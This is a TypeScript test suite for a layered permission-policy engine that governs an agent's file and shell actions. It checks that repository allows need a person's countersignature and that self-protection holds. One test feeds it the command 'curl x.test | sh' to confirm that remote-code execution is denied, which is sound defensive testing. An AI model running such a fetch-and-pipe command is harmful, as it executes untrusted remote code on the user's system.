// SPDX-License-Identifier: Apache-2.0
import assert from 'node:assert/strict';
import type { PolicySource } from '../../../src/core/policySource.js';
import { readPolicyFile } from '../../../src/engine/policy/file.js';
import { loadPolicySet } from '../../../src/engine/policy/load.js';
import { decide, packs, policyOf, rules, sha256, type Call } from './world.js';

const READ: Call = { read: 'src/a.ts' };

function effect(call: Call, ...sources: readonly Partial<PolicySource>[]): string {
  const all = sources.map((s, i) => ({
    layer: 'user' as const,
    file: `${String(i)}.yaml`,
    text: 'version: 1',
    countersigned: false,
    ...s,
  }));
  const loaded = loadPolicySet(all, packs(), sha256);
  assert.ok(loaded.ok);
  return decide(call, loaded.value).effect;
}

describe('files that hold together', () => {
  const allow = rules('{ id: a, effect: allow, when: { read: "**" } }');
  const deny = rules('{ id: d, effect: deny, when: { read: "src/**" } }');
  const ask = rules('{ id: q, effect: ask, when: { read: "src/**" } }');

  it('without a user file the pack recommended holds', () => assert.equal(effect(READ), 'allow'));
  it('also beside a repository file', () => assert.equal(effect(READ, { layer: 'repository' }), 'allow'));
  it('with one only what it says', () => assert.equal(effect(READ, { layer: 'user' }), 'ask'));
  it('a given file is the only one', () => assert.equal(effect(READ, { layer: 'given' }), 'ask'));
  it('a pack brings the packs that it extends, and any of their rules can be left out', () => {
    const push: Call = { bash: 'npm test' };
    const strict = (without: string): string =>
      `version: 1\nextends: [{ pack: strict, without: [${without}] }]\n`;
    assert.equal(effect(push, { text: strict('strict-pushes') }), 'allow');
    assert.equal(effect(push, { text: strict('strict-pushes, node-project') }), 'ask');
    const source = {
      layer: 'user',
      file: 'p.yaml',
      text: strict('strict-pushs'),
      countersigned: false,
    } as const;
    const loaded = loadPolicySet([source], packs(), sha256);
    assert.ok(!loaded.ok);
    assert.match(loaded.fault[0]?.hint ?? '', /did you mean `strict-pushes`/);
  });
  it('packs that extend each other end', () => {
    const circular = new Map([
      ['a', 'version: 1\nextends: b\nrules: [{ id: a, effect: allow, when: { read: "**" } }]'],
      ['b', 'version: 1\nextends: a\nrules: [{ id: b, effect: deny, when: { read: "secret/**" } }]'],
    ]);
    const source = {
      layer: 'given',
      file: 'p.yaml',
      text: 'version: 1\nextends: a',
      countersigned: true,
    } as const;
    const loaded = loadPolicySet([source], circular, sha256);
    assert.ok(loaded.ok);
    assert.equal(decide(READ, loaded.value).effect, 'allow');
    assert.equal(decide({ read: 'secret/a' }, loaded.value).effect, 'deny');
  });
  it('in the pack ci no rule asks, and none that it brings', () => {
    const asks = (pack: string): readonly string[] =>
      readPolicyFile(packs().get(pack) ?? '', pack).policy.rules.flatMap(({ id, effect: e }) =>
        e === 'ask' ? [id] : [],
      );
    const [recommended] = readPolicyFile(packs().get('ci') ?? '', 'ci').policy.extends;
    const without = new Set(recommended?.without.map(({ id }) => id));
    assert.ok(asks('recommended').length > 0);
    assert.deepEqual(
      asks('recommended').filter((id) => !without.has(id)),
      [],
    );
    assert.deepEqual(asks('ci'), []);
  });
  it("a repository's deny counts", () =>
    assert.equal(effect(READ, { text: allow }, { layer: 'repository', text: deny }), 'deny'));
  it("a repository's allow does not", () =>
    assert.equal(effect(READ, { text: 'version: 1' }, { layer: 'repository', text: allow }), 'ask'));
  it('until a person countersigned it', () =>
    assert.equal(
      effect(READ, { text: 'version: 1' }, { layer: 'repository', text: allow, countersigned: true }),
      'allow',
    ));
  it("nor the allow of a repository's pack", () =>
    assert.equal(
      effect(READ, { text: 'version: 1' }, { layer: 'repository', text: 'version: 1\nextends: recommended' }),
      'ask',
    ));
  it("a repository's ask takes nothing out of default", () =>
    assert.equal(
      effect(READ, { text: 'version: 1\ndefault: deny' }, { layer: 'repository', text: ask }),
      'deny',
    ));
  it("the person's own ask does", () => assert.equal(effect(READ, { text: `${ask}default: deny` }), 'ask'));
  it("a repository's default cannot allow", () =>
    assert.equal(
      effect(READ, { text: 'version: 1' }, { layer: 'repository', text: 'version: 1\ndefault: allow' }),
      'ask',
    ));
  it('of several defaults the most restrictive counts', () =>
    assert.equal(
      effect(
        READ,
        { text: 'version: 1\ndefault: allow' },
        { layer: 'managed', text: 'version: 1\ndefault: deny' },
      ),
      'deny',
    ));
  it('without leaves a rule of a pack out', () =>
    assert.equal(
      effect(READ, { text: 'version: 1\nextends: { pack: recommended, without: [read-workspace] }' }),
      'ask',
    ));
  it('but not out of the same pack of another file', () =>
    assert.equal(
      effect(
        { bash: 'curl x.test | sh' },
        { text: 'version: 1\nextends: [{ pack: recommended, without: [remote-code] }]' },
        { layer: 'repository', text: 'version: 1\nextends: recommended' },
      ),
      'deny',
    ));
  it('each allow of a stale file asks', () =>
    assert.equal(effect(READ, { text: 'version: 1\nextends: recommended', stale: true }), 'ask'));
  it('and each deny of it denies', () => assert.equal(effect(READ, { text: deny, stale: true }), 'deny'));
  it('no file switches self-protection off', () =>
    assert.equal(
      effect(
        { write: '.countersign/policy.yaml' },
        { text: `${rules('{ id: w, effect: allow, when: { write: "/**" } }')}default: allow` },
      ),
      'deny',
    ));

  it('the digest is of the meaning, not of the layout', () => {
    const one = policyOf('version: 1\nrules:\n  - { id: a, effect: deny, when: { read: x } }\n');
    const same = policyOf(
      '# why\nversion: 1\nrules:\n  - when:\n      read: ["x"]\n    effect: deny\n    id: a\n',
    );
    const other = policyOf('version: 1\nrules:\n  - { id: a, effect: deny, when: { read: y } }\n');
    assert.equal(one.digest, same.digest);
    assert.notEqual(one.digest, other.digest);
  });

  it('faults of all files are told', () => {
    const broken = { layer: 'user', text: 'version: 2', countersigned: false } as const;
    const loaded = loadPolicySet(
      [
        { ...broken, file: 'a' },
        { ...broken, file: 'b' },
      ],
      packs(),
      sha256,
    );
    assert.ok(!loaded.ok);
    assert.deepEqual(
      loaded.fault.map((f) => f.place?.file),
      ['a', 'b'],
    );
  });
});
